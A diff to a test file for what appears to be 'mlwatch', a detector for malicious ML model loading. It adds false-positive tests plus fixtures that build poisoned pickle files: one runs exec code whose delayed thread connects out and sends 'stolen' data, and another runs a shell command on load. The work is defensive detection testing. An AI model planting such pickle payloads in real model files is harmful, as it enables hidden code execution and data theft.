@@ -2,10 +2,14 @@
 must raise nothing. Load a benign torch model, train a few steps, read data
 files, compile a kernel with gcc the way torch.compile/Triton do, run an
 nvidia-smi stand-in, and talk to a loopback parameter server that is marked
-internal. Ends with a sentinel so a silent mlwatch cannot pass."""
+internal. Ends with a sentinel so a silent mlwatch cannot pass. Also the
+noise a SOC would drown in: whole-model checkpoints of the user's own
+classes, metrics sent out once the load is over, the same file loaded
+again."""
 import os
 import shutil
 import subprocess
+import time
 
 from harness import Checks, Scenario, TestFailure
 
@@ -79,3 +83,129 @@ def test_benign_training_job_raises_nothing():
             c.done()
         finally:
             shutil.rmtree(tooldir, ignore_errors=True)
+
+
+MYMODELS = r'''
+import dataclasses, torch
+
+class Block(torch.nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.lin = torch.nn.Linear(4, 4)
+
+class Net(torch.nn.Module):
+    def __init__(self):
+        super().__init__()
+        self.blocks = torch.nn.ModuleList([Block(), Block()])
+        self.head = torch.nn.Linear(4, 2)
+
+@dataclasses.dataclass
+class Config:
+    lr: float = 0.1
+    layers: int = 2
+'''
+
+
+def test_whole_model_checkpoints_are_not_alerts():
+    """torch.save(model) of the user's own classes (a whole model, nested
+    modules, a checkpoint dict with a dataclass config): the scan says
+    custom-classes on the inventory record, and nothing alerts."""
+    with Scenario("whole") as sc:
+        sc.write("mymodels.py", MYMODELS)
+        gen = sc.write("gen.py",
+                       "import sys, torch; sys.path.insert(0, %r)\n"
+                       "import mymodels\n"
+                       "torch.save(mymodels.Net(), sys.argv[1])\n"
+                       "torch.save(mymodels.Block(), sys.argv[2])\n"
+                       "torch.save({'model': mymodels.Net(), 'config': mymodels.Config(),"
+                       " 'step': 3}, sys.argv[3])\n" % sc.dir)
+        files = [sc.path("net.pt"), sc.path("block.pt"), sc.path("ckpt.pt")]
+        r = sc._run(["/usr/bin/python3", gen] + files, 120, tag="gen")
+        if r.rc != 0:
+            raise TestFailure("generator failed: %s" % r.err[-300:])
+        sc.start(sentinel=True)
+        job = sc.run_script("import sys, torch; sys.path.insert(0, %r)\nimport mymodels\n"
+                            "for p in %r:\n    torch.load(p)\nprint('LOADED')\n"
+                            % (sc.dir, files)).expect_ok("loader of whole models")
+        # the inventory scans and hashes off the hot path: give it time
+        end = time.monotonic() + 20
+        while time.monotonic() < end and len([i for i in sc.mon.inventory
+                                              if (i.get("process") or {}).get("pid") == job.pid]) < 3:
+            sc.mon.read()
+            time.sleep(0.1)
+        sc.liveness_sentinel()
+        alerts = sc.stop()
+        c = Checks("whole models")
+        mine = [a for a in alerts if (a.get("loader") or {}).get("pid") == job.pid]
+        c.true(not mine, "alerts for whole-model checkpoints: %s" % [a["rule"]["id"] for a in mine])
+        inv = [i for i in sc.mon.inventory if (i.get("process") or {}).get("pid") == job.pid]
+        verdicts = sorted(((i.get("model") or {}).get("scan") or {}).get("verdict") or "?" for i in inv)
+        c.eq(verdicts, ["custom-classes"] * 3, "scan verdicts on the inventory")
+        c.done()
+
+
+def test_egress_after_the_load_is_not_an_alert():
+    """A job that loaded a clean model and then logs metrics to an external
+    address (127.0.0.1 under --internal-net 10.0.0.0/8) once the load is
+    over raises nothing. A payload thread started during the load that
+    connects as late still alerts: it belongs to the load."""
+    with Scenario("egress") as sc:
+        lst = sc.listener()
+        clean = sc.make_model("torch", "clean.pt")
+        # exec() runs with a throwaway locals dict: the thread imports its own
+        code = ("import threading\n"
+                "def late():\n"
+                "    import socket, time\n"
+                "    time.sleep(1.5)\n"
+                "    s = socket.create_connection(('127.0.0.1', %d)); s.sendall(b'stolen'); s.close()\n"
+                "threading.Thread(target=late).start()\n" % lst.port)
+        model = sc.make_model("pickle", "model.pkl", exec_code=code)
+        sc.start(sentinel=True)
+        job = sc.run_script(
+            "import json, socket, time, torch\n"
+            "torch.load(%r)\n"
+            "time.sleep(1.5)\n"
+            "s = socket.create_connection(('127.0.0.1', %d))\n"
+            "s.sendall(json.dumps({'step': 1, 'loss': 0.5}).encode()); s.close()\n"
+            % (clean, lst.port)).expect_ok("metrics job")
+        ld = sc.run_loader("pickle", model).expect_ok("loader")
+        if not lst.wait(2, timeout=8):
+            raise TestFailure("the metrics job or the payload never connected")
+        sc.wait_rules(ld.pid, {"model-loader-external-connect"})
+        sc.liveness_sentinel()
+        alerts = sc.stop()
+        c = Checks("egress")
+        mine = [a for a in alerts if (a.get("loader") or {}).get("pid") == job.pid]
+        c.true(not mine, "alerts for metrics after a load: %s" % [a["rule"]["id"] for a in mine])
+        incs = [i for i in sc.mon.incidents if (i.get("loader") or {}).get("pid") == job.pid]
+        c.true(not incs, "an incident for metrics after a load")
+        late = [a for a in alerts if (a.get("loader") or {}).get("pid") == ld.pid
+                and a["rule"]["id"] == "model-loader-external-connect"]
+        c.true(late and all((a.get("event") or {}).get("during_load") is True for a in late),
+               "the payload thread's late connect: %s" % late)
+        c.done()
+
+
+def test_same_model_opened_again_is_one_alert():
+    """The same malicious file loaded three times by one process: one
+    model-scan-malicious line and one shell line, the repeats counted on the
+    incident's steps."""
+    with Scenario("again") as sc:
+        marker = sc.path("MARK")
+        model = sc.make_model("pickle", "model.pkl", system="touch %s" % marker)
+        sc.start()
+        r = sc.run_script("import pickle\nfor _ in range(3):\n"
+                          "    pickle.load(open(%r, 'rb'))\n" % model).expect_ok("loader")
+        sc.expect_file(marker)
+        sc.wait_alerts(lambda al: {"model-scan-malicious", "model-loader-shell"} <=
+                       {a["rule"]["id"] for a in al if (a.get("loader") or {}).get("pid") == r.pid})
+        time.sleep(1.0)
+        alerts = sc.stop()
+        c = Checks("repeats")
+        mine = [a for a in alerts if (a.get("loader") or {}).get("pid") == r.pid]
+        for rule in ("model-scan-malicious", "model-loader-shell"):
+            c.eq(len([a for a in mine if a["rule"]["id"] == rule]), 1, "%s lines" % rule)
+        incs = [i for i in sc.mon.incidents if (i.get("loader") or {}).get("pid") == r.pid]
+        counts = {s.get("rule"): s.get("count") for s in (incs[-1].get("timeline") if incs else [])}
+        c.eq(counts.get("model-loader-shell"), 3, "shell step count")
+        c.done()
